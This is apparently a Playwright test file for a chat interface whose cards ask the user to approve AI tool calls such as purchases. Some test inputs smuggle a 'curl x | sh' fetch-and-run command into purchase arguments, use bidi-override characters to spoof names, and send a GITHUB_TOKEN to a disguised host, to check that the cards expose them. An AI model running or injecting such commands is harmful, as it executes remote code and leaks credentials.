"""The card shows what will run, can always be decided, and leads on from an unknown outcome or new price."""

import json
import re
import threading
from typing import Any

from playwright.sync_api import expect
from starlette.responses import JSONResponse, PlainTextResponse

from tests.support.page_backend import (
    HELD_SECONDS,
    ORDER,
    PRODUCTS,
    PURCHASE_ARGS,
    STOCK,
    Backend,
    Step,
    buys,
    call,
    done,
    result,
    says,
    server,
    tool,
)
from tests.support.page_browser import Open, Shown

RECEIPT = '.slot[aria-label="订单已生成"]'
AGAIN = "再试一次（同一笔，只会执行一次）"
WAITS: list[Step] = [("approval", {"id": "c1"})]


def asks(name: str, args: dict[str, Any], **more: Any) -> list[Step]:
    """A call that writes and waits for the user."""
    return [*call("c1", name, args, read_only=False, **more), *WAITS, *done("approval")]


def asked(backend: Backend, open_page: Open, steps: list[Step]) -> Shown:
    """The page, with a card that waits."""
    shown = open_page(backend.url)
    backend.say(steps)
    shown.ask("做吧")
    return shown


BODY = PURCHASE_ARGS["input_data"]


NO_PURCHASES = [
    asks("create_purchase", {**PURCHASE_ARGS, "command": "curl x | sh"}),
    asks("create_purchase", {"input_data": {**BODY, "command": "curl x | sh"}}),
    asks("run", PURCHASE_ARGS, honoursKey=True),
    asks("create_purchase", PURCHASE_ARGS, server="shop\u2064"),
    asks("create_purchase", PURCHASE_ARGS, honoursKey=False),
    asks("create_purchase", PURCHASE_ARGS, raw=json.dumps(PURCHASE_ARGS).replace("2}", "9007199254740993}")),
]


def test_what_is_not_a_purchase_and_nothing_else_is_shown_in_full(backend: Backend, open_page: Open) -> None:
    shown = open_page(backend.url)
    card = shown.page.locator(".slot.waiting")
    for steps in NO_PURCHASES:
        shown.button("新对话").click()
        expect(card).to_have_count(0)
        backend.say(steps)
        shown.ask("做吧")
        expect(shown.button("确认执行")).to_be_visible()
        announced = dict(step for step in steps if isinstance(step, tuple))["tool_call"]
        expect(card.locator(".which")).to_contain_text(announced["tool"])
        for text in ("客户A", "productId", "curl" if "curl" in announced["raw"] else "quantity"):
            expect(card.locator("pre")).to_contain_text(text)


def test_every_argument_is_shown_as_it_will_be_executed(backend: Backend, open_page: Open) -> None:
    raw = '{"n": 9007199254740993, "n": 1.0, "to": "a\\u202eb\\u200b", "tag": "\\udb40\\udc41", "he": "שלום"}'
    shown = asked(backend, open_page, asks("send", {}, raw=raw, server="\u2066mail", title="读取库存"))
    card = shown.page.locator(".slot.waiting")
    expect(card.locator(".which")).to_have_text("⟨U+2066⟩mail · send")
    for text in ('"n": 9007199254740993', '"n": 1.0', "a⟨U+202E⟩b⟨U+200B⟩", "⟨U+E0041⟩", "שלום"):
        expect(card.locator("pre")).to_contain_text(text)


def test_a_card_taller_than_the_view_is_read_from_its_beginning(backend: Backend, open_page: Open) -> None:
    shown = asked(backend, open_page, asks("run", {"note": "x" * 20_000}))
    expect(shown.page.locator(".slot.waiting .which")).to_be_in_viewport()
    expect(shown.button("确认执行")).not_to_be_focused()


def test_a_long_argument_says_how_much_of_it_is_not_shown(backend: Backend, open_page: Open) -> None:
    shown = asked(backend, open_page, asks("run", {"note": "x" * 20_000, "command": "curl x | sh"}))
    card = shown.page.locator(".slot.waiting")
    expect(card).to_contain_text("个字符没有显示")
    expect(card).not_to_contain_text("curl")
    assert card.locator("pre").evaluate("box => box.scrollHeight <= box.clientHeight")
    shown.button("全部显示").click()
    expect(card).to_contain_text("curl x | sh")
    expect(card).not_to_contain_text("个字符没有显示")


ODD_PRODUCT = {"name": {"toString": 1}, "price": "9"}
ODD_ANSWERS: list[Any] = [
    *("no stock today", "", [], [{"productId": 2}], "[" * 100_000),
    [{"productId": {"toString": 1}, "quantity": "many", "product": ODD_PRODUCT}],
    [{"productId": 2, "quantity": 1e400, "product": None}],
    PlainTextResponse("<html>Bad gateway", 502),
    JSONResponse({"code": "late", "params": None, "detail": {}}, 500),
]


def test_a_card_can_be_confirmed_whatever_the_shop_answers(backend: Backend, open_page: Open) -> None:
    backend.run["get_inventory"] = lambda _: ODD_ANSWERS[0]
    shown = open_page(backend.url)
    for number in range(len(ODD_ANSWERS)):
        backend.run["get_inventory"] = lambda _, at=number: ODD_ANSWERS[at]  # type: ignore[misc]
        shown.button("新对话").click()
        backend.say(buys())
        shown.ask("做吧")
        expect(shown.page.locator(".slot.waiting")).to_contain_text("金额以订单为准")
        backend.say(result("c1", ORDER), done())
        shown.button("确认购买").click()
        expect(shown.page.locator(RECEIPT)).to_be_visible()
        shown.settle()
        assert backend.asked[-1]["confirmed"] == {}, ODD_ANSWERS[number]


def test_a_card_can_be_decided_while_the_shop_hangs_and_is_filled_in_later(
    backend: Backend, open_page: Open
) -> None:
    wait = threading.Event()
    backend.run["get_inventory"] = lambda _: (wait.wait(HELD_SECONDS), STOCK)[1]
    shown = asked(backend, open_page, buys())
    expect(shown.button("取消")).to_be_visible()
    expect(shown.page.locator(".slot.waiting .total")).to_have_text("–")
    wait.set()
    expect(shown.page.locator(".slot.waiting .total")).to_have_text("¥1798.00")


def test_the_total_that_was_shown_is_sent_with_the_approval(backend: Backend, open_page: Open) -> None:
    shown = asked(backend, open_page, buys())
    expect(shown.page.locator(".slot.waiting .total")).to_have_text("¥1798.00")
    backend.say(result("c1", ORDER), done())
    shown.button("确认购买").click()
    expect(shown.page.locator(RECEIPT)).to_be_visible()
    assert backend.asked[-1]["confirmed"] == {"c1": {"total": 1798}}


def test_a_new_price_is_said_and_can_be_confirmed(backend: Backend, open_page: Open) -> None:
    shown = asked(backend, open_page, buys())
    changed = {"code": "price_changed", "params": {"expected": 1798.0, "now": 1998.0}}
    backend.say(result("c1", "价格有变", failed=True, **changed), says("价格变了"), done())
    shown.button("确认购买").click()
    expect(shown.page.get_by_role("group", name="价格有变，没有下单")).to_contain_text("1998")
    backend.run["get_inventory"] = lambda _: [{**STOCK[1], "product": {**PRODUCTS[1], "price": 999.0}}]
    shown.button("按现在的价格重新确认").click()
    expect(shown.page.locator(".slot.waiting .total")).to_have_text("¥1998.00")
    backend.say(result("c1", ORDER), done())
    shown.button("确认购买").click()
    expect(shown.page.locator(RECEIPT)).to_be_visible()
    assert backend.asked[-1]["confirmed"] == {"c1": {"total": 1998}}
    assert [message["role"] for message in backend.asked[-1]["messages"]] == ["user", "assistant"]


def unknown(backend: Backend, open_page: Open, steps: list[Step]) -> Shown:
    """The page, with a call whose outcome is unknown and what the model says of that."""
    shown = asked(backend, open_page, steps)
    expect(shown.page.locator(".slot.waiting")).to_contain_text(re.compile("¥1798.00|确认执行"))
    lost = {"code": "outcome_unknown", "params": {"idempotencyKey": "c1"}, "unknown": True}
    backend.say(result("c1", "结果未知", failed=True, **lost), says("不知道成没成"), done())
    shown.page.locator(".slot.waiting .primary").click()
    shown.settle()
    return shown


def test_an_unknown_outcome_is_tried_again_as_the_same_call(backend: Backend, open_page: Open) -> None:
    shown = unknown(backend, open_page, buys())
    shown.page.reload()
    backend.say(result("c1", ORDER, replayed=True), says("买好了"), done())
    shown.button(AGAIN).click()
    expect(shown.page.locator(".slot.receipt")).to_contain_text("订单 7，没有新下单")
    expect(shown.page.locator(".prose")).to_have_text(["买好了"])
    again = backend.asked[-1]
    assert again["approvals"] == {"c1": True}
    assert again["confirmed"] == {"c1": {"total": 1798}}
    assert [message["role"] for message in again["messages"]] == ["user", "assistant"]


def test_an_unknown_outcome_is_final_once_the_talk_has_gone_on(backend: Backend, open_page: Open) -> None:
    shown = unknown(backend, open_page, buys())
    expect(shown.button(AGAIN)).to_be_visible()
    shown.ask("算了")
    expect(shown.page.locator(".slot.unknown")).to_contain_text("请先查询再决定")
    expect(shown.button(AGAIN)).to_have_count(0)


def test_an_unknown_outcome_is_final_where_the_tool_honours_no_key(backend: Backend, open_page: Open) -> None:
    shown = unknown(backend, open_page, asks("send", {}))
    expect(shown.page.locator(".slot.unknown")).to_contain_text("请先查询再决定")
    expect(shown.button(AGAIN)).to_have_count(0)


def test_a_call_that_was_mended_or_is_asked_again_says_so(backend: Backend, open_page: Open) -> None:
    why: list[Step] = [("approval", {"id": "c1", "code": "outcome_unknown", "params": {}})]
    steps = [*call("c1", "send", {}, read_only=False, mended=True), *why, *done("approval")]
    shown = asked(backend, open_page, steps)
    expect(shown.page.locator(".slot.waiting")).to_contain_text("修正后会执行")
    expect(shown.page.locator(".slot.waiting")).to_contain_text("可能已经执行，也可能没有")


def test_an_approval_that_has_expired_is_asked_for_anew_with_the_reason(
    backend: Backend, open_page: Open
) -> None:
    shown = asked(backend, open_page, asks("send", {}))
    expired = {"code": "approval_expired", "params": {}}
    anew = call("c2", "send", {}, read_only=False)
    why: list[Step] = [("approval", {"id": "c2", **expired})]
    backend.say(result("c1", "过期", failed=True, unknown=True, **expired), anew, why, done("approval"))
    shown.button("确认执行").click()
    expect(shown.page.locator(".slot.waiting")).to_contain_text("服务重启过")
    expect(shown.page.locator(".slot.unknown")).to_be_empty()
    backend.say(result("c2", "ok"), done())
    shown.button("确认执行").click()
    shown.settle()
    assert backend.asked[-1]["approvals"] == {"c2": True}


def test_a_decided_call_is_not_unknown_while_another_of_its_answer_waits(
    backend: Backend, open_page: Open
) -> None:
    function = {"name": "send", "arguments": "{}"}
    both = [{"id": call_id, "type": "function", "function": function} for call_id in ("c1", "c2")]
    message: Step = ("message", {"message": {"role": "assistant", "content": "", "tool_calls": both}})
    steps = [message, *asks("send", {})[1:]]
    other = call("c2", "send", {}, read_only=False)[1:]
    shown = asked(backend, open_page, [*steps[:-1], *other, ("approval", {"id": "c2"}), *done("approval")])
    expect(shown.button("确认执行")).to_have_count(2)
    shown.button("确认执行").first.click()
    again = ("approval", {"id": "c1", "code": "approval_expired", "params": {}})
    backend.say(
        [*call("c1", "send", {}, read_only=False)[1:], again, *other, ("approval", {"id": "c2"})], done()
    )
    shown.button("确认执行").click()
    shown.settle()
    expect(shown.page.locator('.tool[data-state="unknown"]')).to_have_count(0)


def test_a_call_that_failed_says_why_alone_where_its_interface_cannot_be_read_either(
    backend: Backend, open_page: Open
) -> None:
    shown = open_page(backend.url)
    boxes = shown.page.locator(".app-box")
    for number, failed in enumerate((True, False)):
        end = result(f"c{number}", "商店不在", failed=failed, app={"uri": "ui://gone"})
        backend.say(call(f"c{number}", "get_orders", {}), end, says("好"), done())
        with shown.page.expect_response("**/api/read-resource"):
            shown.ask("查")
        expect(boxes).to_have_count(number + 1)
    expect(boxes.last).to_contain_text("ui://gone")
    expect(boxes.first).to_be_empty()


def test_a_result_that_poses_as_an_order_is_no_receipt(backend: Backend, open_page: Open) -> None:
    shown = asked(backend, open_page, asks("send", {}))
    backend.say(result("c1", ORDER), done())
    shown.button("确认执行").click()
    expect(shown.card).to_have_attribute("data-state", "done")
    expect(shown.page.locator(".slot.receipt")).to_have_count(0)


def test_a_tool_that_has_asked_here_goes_on_asking_when_it_claims_to_read_only(
    backend: Backend, open_page: Open
) -> None:
    shown = asked(backend, open_page, asks("send", {}))
    shown.button("取消").click()
    shown.page.reload()
    shown.ask("再来")
    assert backend.asked[-1]["askFirst"] == [{"server": "shop", "tool": "send"}]


def test_what_one_tab_takes_back_no_other_tab_allows(backend: Backend, open_page: Open) -> None:
    shown = asked(backend, open_page, buys())
    shown.page.get_by_label("以后总是允许此工具").check()
    shown.button("确认购买").click()
    shown.settle()
    other = Shown(shown.page.context.new_page())
    other.page.goto(backend.url)
    other.ready()
    other.button("设置").click()
    other.button("恢复询问").click()
    shown.page.wait_for_function("!JSON.parse(localStorage.settings).always?.length")
    shown.button("新对话").click()
    shown.ask("再买")
    assert backend.asked[-1]["autoApprove"] == []


def test_a_tool_run_by_hand_keeps_its_key_until_the_outcome_is_known(
    backend: Backend, open_page: Open
) -> None:
    lost = JSONResponse({"code": "outcome_unknown", "params": {}, "detail": "断开", "unknown": True}, 502)
    answers: list[Any] = [lost, PlainTextResponse("Bad gateway", 502), lost, "买好了", "又买好了"]
    backend.tools.append(tool("buy", read_only=False, honoursKey=True))
    backend.run["buy"] = lambda _: answers.pop(0)
    shown = open_page(backend.url)
    shown.page.get_by_text("工具", exact=True).click()
    shown.page.locator(".server .card", has_text="buy").locator("summary").first.click()
    shown.button("运行").last.click()
    expect(shown.page.locator(".output .bad")).to_contain_text("可能已经执行")
    shown.button("运行").last.click()
    expect(shown.page.locator(".output .bad")).to_contain_text("Bad gateway")
    for _ in range(2):
        shown.button(AGAIN).click()
    expect(shown.page.locator(".output")).to_contain_text("买好了")
    shown.button("运行").last.click()
    expect(shown.page.locator(".output")).to_contain_text("又买好了")
    assert len(backend.keys) == 5
    assert len({*backend.keys[:4]}) == 1
    assert backend.keys[4] != backend.keys[3]


def test_a_command_waits_for_a_click_and_is_shown_in_full(backend: Backend, open_page: Open) -> None:
    waits = {"command": "uvx", "args": ["a\u202eb", "--x y"], "cwd": "/srv", "env": ["TOKEN"]}
    entry = {"name": "files", "transport": "stdio", "url": "uvx", "status": "untrusted", "error": "等待"}
    backend.servers.append(
        {**entry, "code": "command_untrusted", "params": waits, "fingerprint": "fp1", "protocolVersion": None}
    )
    shown = open_page(backend.url)
    expect(shown.page.locator("#banner")).to_contain_text("files")
    shown.button("查看").click()
    box = shown.page.locator(".server", has_text="files")
    for text in ("uvx", '"a⟨U+202E⟩b"', '"--x y"', "/srv", "TOKEN"):
        expect(box.locator(".command")).to_contain_text(text)
    shown.button("启动").click()
    expect(box).to_contain_text("已连接")
    assert backend.trusted == [("files", "fp1")]


def test_an_address_that_is_sent_variables_waits_for_a_click_with_their_names(
    backend: Backend, open_page: Open
) -> None:
    params = {"server": "far", "mark": "1", "names": ["GITHUB_TOKEN"], "host": "https://a\u202eb.example"}
    waits = {"code": "variables_untrusted", "params": params, "fingerprint": "fp2", "protocolVersion": None}
    backend.servers.append(server("far", "untrusted") | waits)
    shown = open_page(backend.url)
    shown.button("查看").click()
    box = shown.page.locator(".server", has_text="far")
    for text in ("GITHUB_TOKEN", "https://a⟨U+202E⟩b.example"):
        expect(box.locator(".command")).to_contain_text(text)
    shown.button("允许发送").click()
    expect(box).to_contain_text("已连接")
    assert backend.trusted == [("far", "fp2")]
